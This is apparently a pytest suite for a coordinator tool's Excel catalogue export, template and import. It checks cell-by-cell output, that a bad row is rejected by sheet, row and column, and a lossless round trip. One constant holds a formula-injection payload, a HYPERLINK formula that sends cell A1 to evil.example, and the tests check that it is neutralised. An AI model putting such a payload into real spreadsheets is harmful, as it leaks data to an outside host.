"""The catalogue in Excel: export checked cell by cell, the template, import by the JSON rules
(one bad row imports nothing and is named by sheet, row and column), and a lossless round trip."""

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from intake.excel.catalogue_layout import SHEETS
from intake.extensions import db
from intake.matching_bridge import catalogue_version
from intake.models import Case, Coach, WorkshopSeries
from intake.operations.catalogue_files import export_catalogue

BASE = "/coordinator/catalogue"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'


@pytest.fixture
def coord(staff_client):
    staff_client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    return staff_client


def workbook(client, url: str = f"{BASE}/export.xlsx"):
    response = client.get(url)
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.data))


def row_of(ws, code: str) -> dict:
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2, values_only=True):
        if row[0] == code:
            return dict(zip(header, row, strict=True))
    raise AssertionError(f"{code} not in {ws.title}")


def to_bytes(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def upload(client, body: bytes, name: str = "katalog.xlsx"):
    response = client.post(f"{BASE}/import", data={"file": (io.BytesIO(body), name)},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def snapshot() -> dict:
    db.session.expire_all()
    data = export_catalogue()
    data["extras"] = sorted(
        [(s.code, s.location, s.version) for s in db.session.scalars(select(WorkshopSeries))]
        + [(c.code, c.email, c.version) for c in db.session.scalars(select(Coach))]
        + [(c.code, "", c.version) for c in db.session.scalars(select(Case))])
    return data


# ---- export ---------------------------------------------------------------------------

def test_export_cell_by_cell(coord, catalogue):
    lean = db.session.scalar(select(WorkshopSeries).where(WorkshopSeries.code == "WS-LEAN-Z"))
    lean.location = "Östersund"
    db.session.commit()
    wb = workbook(coord)
    assert wb.sheetnames == ["instructions", "workshop_series", "coaches", "cases", "lists"]
    for sheet, columns in SHEETS.items():
        assert [c.value for c in wb[sheet][1]] == [name for name, _kind in columns]
        assert wb[sheet].max_row == 1 + len(export_catalogue()[sheet])
    ws = wb["workshop_series"]
    assert [c.value for c in ws[1]] == ["code", "title", "description", "areas", "county",
                                        "starts_on", "seats", "location"]
    lean_row = row_of(ws, "WS-LEAN-Z")
    assert lean_row == {
        "code": "WS-LEAN-Z", "title": lean.title, "description": lean.description,
        "areas": "productivity", "county": "23", "starts_on": datetime(2027, 2, 9),
        "seats": 12, "location": "Östersund"}
    cell = ws.cell(row=[c.value for c in ws["A"]].index("WS-LEAN-Z") + 1, column=5)
    assert (cell.value, cell.data_type) == ("23", "s")  # a county code stays text
    coach = row_of(wb["coaches"], "CO-01")
    assert coach == {"code": "CO-01", "name": "Anders Hägglund", "profile": coach["profile"],
                     "areas": "automation", "counties": "23, 22, 24", "capacity": 5,
                     "email": None}
    assert coach["profile"].startswith("Svetsingenjör (IWE)")
    case = row_of(wb["cases"], "CASE-001")
    assert (case["sector"], case["employees"], case["county"]) == ("25", 42, "23")
    assert (case["automation_maturity"], case["automation_priority"]) == (1, 5)
    assert case["automation_text"].startswith("All svetsning görs för hand.")
    assert (case["competence_maturity"], case["competence_priority"]) == (2, 4)
    assert case["sustainability_maturity"] is None
    assert (case["workshop_series"], case["coach"]) == ("WS-ROBOT-Z", "CO-01")
    lists = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    assert lists["=lists!$A$2:$A$22"].startswith("E2:E")  # the county column


def test_formula_looking_text_is_neutralised(coord, app):
    db.session.add(WorkshopSeries(code="WS-EVIL", title="+46 70 123", description=EVIL,
                                  areas=["automation"], location="@kontoret"))
    db.session.commit()
    ws = workbook(coord)["workshop_series"]
    row = [c for c in ws[2]]
    assert row[0].value == "WS-EVIL"
    assert (row[1].value, row[1].data_type) == ("'+46 70 123", "s")
    assert (row[2].value, row[2].data_type) == ("'" + EVIL, "s")
    assert row[7].value == "'@kontoret"
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def test_template_has_headers_instructions_and_lists(coord, app):
    wb = workbook(coord, f"{BASE}/template.xlsx")
    for sheet, columns in SHEETS.items():
        assert [c.value for c in wb[sheet][1]] == [name for name, _kind in columns]
        assert wb[sheet].max_row == 1
    text = " ".join(str(c.value) for r in wb["instructions"].iter_rows() for c in r)
    assert "Ett blad per lista" in text and "One sheet per list" in text
    lists = wb["lists"]
    assert [c.value for c in lists["A"][1:]][:22] == [f"{n:02d}" for n in
                                                     (1, 3, 4, 5, 6, 7, 8, 9, 10, 12, 13, 14,
                                                      17, 18, 19, 20, 21, 22, 23, 24, 25)] + [None]
    assert "25" in [c.value for c in lists["D"]]
    cases = {dv.formula1 for dv in wb["cases"].data_validations.dataValidation}
    assert {"=lists!$A$2:$A$22", "=lists!$D$2:$D$89"} <= cases


# ---- round trip and import ----------------------------------------------------------------

def test_export_then_import_changes_nothing(coord, catalogue):
    db.session.add(WorkshopSeries(code="WS-EVIL", title="-minus", description=EVIL,
                                  areas=["automation"], county=None, location="@hemma"))
    coach = db.session.scalar(select(Coach).where(Coach.code == "CO-01"))
    coach.email = "anders@coach.se"
    db.session.commit()
    before, version = snapshot(), catalogue_version()
    page = upload(coord, coord.get(f"{BASE}/export.xlsx").data)
    assert "0 created and 0 updated" in page
    assert snapshot() == before
    assert catalogue_version() == version


def test_import_fills_the_template(coord, catalogue):
    wb = workbook(coord, f"{BASE}/template.xlsx")
    wb["workshop_series"].append(["WS-X", "Ny serie", "Om robotar", "automation; productivity",
                                  22, date(2027, 5, 3), 8.0, "Härnösand"])
    wb["coaches"].append(["CO-X", "Ny coach", "Profil", "automation", "22,23", "3",
                          " ny@coach.se "])
    wb["cases"].append(["CASE-X", 25, 12, "23"] + [2, 3, "t"] * 4 + [None] * 6
                       + ["Sammanfattning", None, "WS-X", "CO-X"])
    page = upload(coord, to_bytes(wb))
    assert "3 created and 0 updated" in page
    series = db.session.scalar(select(WorkshopSeries).where(WorkshopSeries.code == "WS-X"))
    assert (series.areas, series.county, series.starts_on, series.seats, series.location) == (
        ["automation", "productivity"], "22", date(2027, 5, 3), 8, "Härnösand")
    coach = db.session.scalar(select(Coach).where(Coach.code == "CO-X"))
    assert (coach.counties, coach.capacity, coach.email) == (["22", "23"], 3, "ny@coach.se")
    case = db.session.scalar(select(Case).where(Case.code == "CASE-X"))
    assert (case.sector, case.workshop_series.code, case.coach.code) == ("25", "WS-X", "CO-X")
    assert case.answers["automation"] == {"maturity": 2, "priority": 3, "text": "t"}


def test_one_bad_row_imports_nothing_and_is_named(coord, catalogue):
    wb = workbook(coord)
    coaches = wb["coaches"]
    coaches["F3"] = "many"  # capacity of the second coach
    coaches.append(["CO-NEW", "Ny", "Profil", "automation", "22", 2, None])
    wb["workshop_series"]["B2"] = "Changed title"
    before, version = snapshot(), catalogue_version()
    page = upload(coord, to_bytes(wb))
    assert "Nothing was imported" in page
    assert ("katalog.xlsx: sheet coaches, row 3, column F (capacity): expected a whole "
            "number 0-100000, got &#34;many&#34;") in page
    assert snapshot() == before and catalogue_version() == version


@pytest.mark.parametrize(("edit", "message"), [
    (lambda wb: wb["cases"].__setitem__("E2", 9),
     "sheet cases, row 2, column E (digitalisation_maturity): 9 is out of range"),
    (lambda wb: wb["cases"].__setitem__("Z2", "CO-NOPE"),
     "sheet cases, row 2, column Z (coach): &#34;CO-NOPE&#34; is not a coach"),
    (lambda wb: [wb["cases"].__setitem__(c, None) for c in ("H2", "I2", "J2")],
     "sheet cases, row 2, column H (automation_maturity): required area is missing"),
    (lambda wb: wb["coaches"].__setitem__("A3", wb["coaches"]["A2"].value),
     "sheet coaches, row 2, 3, column A (code): &#34;CO-01&#34; appears more than once "
     "(rows 2 and 3)"),
    (lambda wb: wb["workshop_series"].__setitem__("E2", "Jämtland"),
     "sheet workshop_series, row 2, column E (county): &#34;Jämtland&#34; is not a Swedish "
     "county code"),
    (lambda wb: wb["workshop_series"].__setitem__("F2", "next spring"),
     "sheet workshop_series, row 2, column F (starts_on): &#34;next spring&#34; is not a date"),
    (lambda wb: wb["workshop_series"].__setitem__("G2", "²"),  # a digit to str, not to int
     "sheet workshop_series, row 2, column G (seats): expected a whole number 0-100000, "
     "got &#34;²&#34;"),
    (lambda wb: wb["workshop_series"].__setitem__("G2", "=10+2"),
     "sheet workshop_series, row 2, column G (seats): contains a formula"),
    (lambda wb: wb["coaches"].__setitem__("G2", "not-an-email"),
     "sheet coaches, row 2, column G (email): not-an-email is not an e-mail address"),
    (lambda wb: wb["coaches"].delete_cols(2),
     "Sheet coaches: row 1 lacks the column(s) name."),
])
def test_bad_cells_are_named_by_sheet_row_and_column(coord, catalogue, edit, message):
    wb = workbook(coord)
    edit(wb)
    before = snapshot()
    page = upload(coord, to_bytes(wb))
    assert "Nothing was imported" in page
    assert message in page
    assert snapshot() == before


def test_a_workbook_without_catalogue_sheets_is_refused(coord, app):
    wb = Workbook()
    wb.active.title = "Blad1"
    page = upload(coord, to_bytes(wb))
    assert "none of the sheets workshop_series, coaches, cases is there" in page
